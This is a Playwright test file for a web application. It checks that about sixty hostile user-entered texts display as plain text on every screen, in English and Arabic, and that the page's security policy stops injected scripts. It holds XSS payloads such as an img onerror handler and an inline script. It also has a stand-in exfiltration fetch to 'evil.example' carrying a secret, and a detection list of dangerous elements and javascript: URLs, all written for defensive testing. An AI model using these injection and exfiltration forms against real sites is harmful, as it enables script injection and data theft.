/** What people enter is text wherever it shows, and the page runs no script but its own. */
import type { Page } from 'playwright/test';
import { HOSTILE_TEXTS, hostileTextsFor } from '../support/hostile-texts.ts';
import { fillTenant, type HostileTenant } from './pages/hostile-tenant.ts';
import { FloorList } from './pages/floor-list.ts';
import { inTurn } from './pages/look.ts';
import { PlanPage } from './pages/plan-page.ts';
import type { Seat } from './pages/seat.ts';
import { OPERATOR, expect, test, within } from './plumbline-test.ts';

/** Alone in a tenant that no other test looks at. */
const ADMIN = 'tenant-admin@kansai.example';
const ALL = HOSTILE_TEXTS.join(' ');

/** What of the page is none of its own: elements, handlers and addresses that only a text can have brought. */
function foreignIn(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const never =
      'object,embed,base,frame,frameset,marquee,portal,math,foreignObject,[srcdoc],[name=ran],#ran';
    const found = [...document.querySelectorAll(never)].filter((each) => !each.matches('iframe[sandbox=""]'));
    const acting = [...document.querySelectorAll('*')].filter((each) =>
      [...each.attributes].some(
        ({ name, value }) =>
          name.startsWith('on') ||
          (/^(href|src|action|formaction|data|to|content)$/.test(name) &&
            /^\s*(javascript|data:text|vbscript)/i.test(value)),
      ),
    );
    return [...found, ...acting].map((each) => each.outerHTML.slice(0, 200));
  });
}

/** Nothing ran, nothing was framed, nobody was led elsewhere. */
async function expectHarmless({ page }: Seat, path: string, frames = 1): Promise<void> {
  const ran = await page.evaluate(() => typeof Reflect.get(window, 'ran'));
  expect([path, ran, await foreignIn(page), page.frames().length]).toEqual([path, 'undefined', [], frames]);
  expect(page.url()).toContain(path);
}

/** The texts stand there, as texts: on the page, or in a field. */
async function expectTexts({ page }: Seat, path: string, texts: readonly string[]): Promise<void> {
  const missing = () =>
    page.evaluate((wanted) => {
      const fields = [...document.querySelectorAll('input, textarea')];
      const values = fields.map((each) => ('value' in each ? String(each.value) : ''));
      const said = [document.body.textContent, ...values];
      return wanted.filter((text) => !said.some((each) => each.includes(text)));
    }, texts);
  await expect.poll(async () => [path, await missing()], within(20)).toEqual([path, []]);
}

async function see(seat: Seat, path: string, texts: readonly string[]): Promise<void> {
  await seat.page.goto(path);
  await expect(seat.page.getByRole('heading', { level: 1 }).first()).toBeVisible();
  await expectTexts(seat, path, texts);
  await expectHarmless(seat, path);
}

/** A plan with every tab of its panel. */
async function seePlan(seat: Seat, { plan: floor, zones, markup, person }: HostileTenant): Promise<void> {
  const path = `/project/floor?projectId=${floor.projectId}&floorId=${floor.id}`;
  await seat.page.goto(path);
  const plan = new PlanPage(seat, floor);
  await plan.ready();
  await expectTexts(seat, path, zones);
  await plan.showTab('people');
  await expectTexts(seat, path, [person]);
  await plan.showTab('markup');
  await expectTexts(
    seat,
    path,
    markup.map((text) => text.slice(0, 60)),
  );
  await plan.showTab('activity');
  await expectHarmless(seat, path);
}

/** Files that are refused before they are sent, each by its name. */
async function seeFileNames(seat: Seat, projectId: string): Promise<void> {
  const list = await new FloorList(seat, projectId).open();
  const svg = { mimeType: 'image/png', buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>') };
  const names = hostileTextsFor(250);
  await list.choose(names.map((name) => ({ ...svg, name: `${name}.png` })));
  await expectTexts(seat, '/project/floor', names);
  await expectHarmless(seat, '/project/floor');
}

/** A search is in the address and in its field; what is not found is told with it. */
async function seeSearch(seat: Seat): Promise<void> {
  for (const text of HOSTILE_TEXTS.slice(0, 3)) {
    const path = `/project/members?search=${encodeURIComponent(text)}`;
    await seat.page.goto(path);
    await expectTexts(seat, path, [text]);
    await expectHarmless(seat, '/project/members');
  }
}

test('F115: sixty ways by which text becomes code are text on every screen, left to right or right to left', async ({
  enter,
  browser,
  product,
}) => {
  test.slow();
  const [admin, operator] = [await enter(ADMIN, { language: 'en' }), await enter(OPERATOR)];
  const tenant = await fillTenant({ baseUrl: product.baseUrl, admin, operator });
  for (const language of inTurn(['en', 'ar'] as const)) {
    const seat = await enter(ADMIN, { language });
    const dialogs: string[] = [];
    seat.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    for (const [path, texts] of Object.entries(tenant.pages)) await see(seat, path, texts);
    await seePlan(seat, tenant);
    await seeFileNames(seat, tenant.plan.projectId);
    await seeSearch(seat);
    expect([language, dialogs]).toEqual([language, []]);
    expect(seat.context.pages()).toHaveLength(1);
  }
  await see(operator, '/project/tenant', [tenant.tenantName]);
  await see(operator, '/project/tenantlog', []);
  // The oldest: those after it say that its link was shown.
  await operator.page.goto('/operator/mail?search=hostile-&direction=asc');
  await operator.page.getByRole('table').getByRole('row').nth(1).getByRole('button').click();
  await expect(operator.page.frameLocator('iframe').locator('.words')).toHaveText(/ran=1/);
  await expectHarmless(operator, '/operator/mail', 2);
  await tenant.tidy();

  // What was looked for can be seen: in a page without a policy that takes it for markup, it runs.
  const unguarded = await browser.newPage();
  await unguarded.setContent(ALL);
  await expect.poll(() => unguarded.evaluate(() => Reflect.get(window, 'ran'))).toBe(1);
  await unguarded.close();
});

test('F116: a script that somebody got into the page does not run', async ({ browser, baseURL }) => {
  // A browser of its own: what it complains of is what is wanted here.
  const context = await browser.newContext({ ...(baseURL && { baseURL }), serviceWorkers: 'block' });
  const page = await context.newPage();
  await page.goto('/login');
  const outcome = await page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
    const attempt = (work: () => void): boolean => {
      try {
        work();
        return true;
      } catch {
        return false;
      }
    };
    const add = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
    };
    const passed = {
      markup: attempt(() => (document.body.innerHTML += '<img src=x onerror="window.ran=1">')),
      inline: attempt(() => {
        const script = document.createElement('script');
        script.textContent = 'window.ran=1';
        document.body.append(script);
      }),
      handler: attempt(() => add('img', { src: 'x:', onerror: 'window.ran=1' })),
    };
    attempt(() => add('iframe', { src: 'https://evil.example/' }));
    attempt(() => add('object', { data: 'https://evil.example/x' }));
    const sent = await fetch('https://evil.example/?secret').then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: Reflect.get(window, 'ran'), passed, sent, blocked };
  });
  await context.close();
  expect(outcome).toMatchObject({ passed: { markup: false, inline: false }, sent: false });
  expect(outcome.ran).toBeUndefined();
  expect(outcome.blocked).toEqual(expect.arrayContaining(['connect-src', 'require-trusted-types-for']));
});
